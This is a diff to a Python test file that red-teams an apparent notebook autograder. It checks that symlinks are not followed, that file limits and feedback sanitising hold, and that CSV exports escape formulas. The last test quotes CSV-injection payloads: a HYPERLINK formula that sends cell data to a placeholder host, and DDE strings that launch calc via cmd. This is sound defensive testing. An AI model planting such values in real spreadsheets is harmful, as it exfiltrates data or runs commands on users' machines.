@@ -22,7 +22,8 @@ SOURCE = FIXTURES / "course" / "source" / "ps1" / "ps1.ipynb"
 def test_there_are_enough_attacks_in_every_class():
     assert len(ATTACKS) >= 25
     assert len({a.name for a in ATTACKS}) == len(ATTACKS)
-    for threat in ("judge", "read", "write", "resources", "combined"):
+    for threat in ("judge", "read", "write", "resources", "combined", "stop", "link",
+                   "spreadsheet"):
         assert sum(a.threat == threat for a in ATTACKS) >= 2, threat
 
 
@@ -137,3 +138,67 @@ def test_resource_limits_are_reported(redteam):
                for name in ("x-disk-many-files", "x-output-flood")}
     assert "disk limit" in reasons["x-disk-many-files"], reasons
     assert "output beyond" in reasons["x-output-flood"], reasons
+
+
+# --- round two: nothing stops the class, nothing follows a link, nothing reaches a sheet --
+def test_outputs_with_list_text_do_not_stop_the_class(redteam):
+    sub = redteam.results["s-list-outputs"]
+    assert sub.score == FULL, sub.reasons
+    nb = nbk.read(redteam.course.autograded / "s-list-outputs" / "ps1" / "ps1.ipynb")
+    outs = nbk.cell_by_id(nb, "squares").outputs
+    assert all(isinstance(o.get("text", ""), str) for o in outs), outs
+    assert any(o.get("output_type") == "error" and o.ename == "ValueError" for o in outs), outs
+
+
+def test_a_hidden_marker_in_one_message_does_not_stop_the_feedback(redteam):
+    page = redteam.course.feedback / "s-hidden-marker-in-message" / "ps1" / "ps1.html"
+    plain = html.unescape(page.read_text())
+    assert "BEGIN HIDDEN" not in plain and "END HIDDEN" not in plain
+    assert "[hidden test code]" in plain
+    pages = list(redteam.course.feedback.glob("*/ps1/ps1.html"))
+    assert len(pages) == len(ATTACKS) + len(HONEST)
+
+
+def test_links_are_never_followed(redteam):
+    for attack in [a for a in ATTACKS if a.link]:
+        sub = redteam.results[attack.name]
+        assert sub.score == 0.0, (attack.name, sub.score)
+        assert any("symbolic link: not followed" in r for r in sub.reasons), sub.reasons
+        page = html.unescape((redteam.course.feedback / attack.name / "ps1" / "ps1.html")
+                             .read_text())
+        assert "symbolic link" in page, attack.name
+    # the links are still links, and the solution they point at is untouched
+    assert (redteam.course.submitted / "l-link-student").is_symlink()
+
+
+def test_many_empty_files_are_stopped(redteam):
+    sub = redteam.results["x-many-empty-files"]
+    assert any("file limit of" in r for r in sub.reasons), sub.reasons
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_csv_cell_can_run_as_a_formula(redteam):
+    import csv
+
+    root = redteam.course.root
+    questions = list(csv.DictReader((root / "questions.csv").open(newline="")))
+    mine = {r["known_mistakes"] for r in questions if r["student"].startswith("f-formula")}
+    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")" in mine, mine
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in mine and "'-2+3+cmd|' /C calc'!A0" in mine, mine
+    assert "'+cmd|' /C calc'!A0" in mine and "'=1+1" in mine, mine
+    for name in ("grades.csv", "questions.csv"):
+        rows = list(csv.reader((root / name).open(newline="")))
+        assert len(rows) > len(ATTACKS), name
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(FORMULA) or is_number(cell), (name, row)
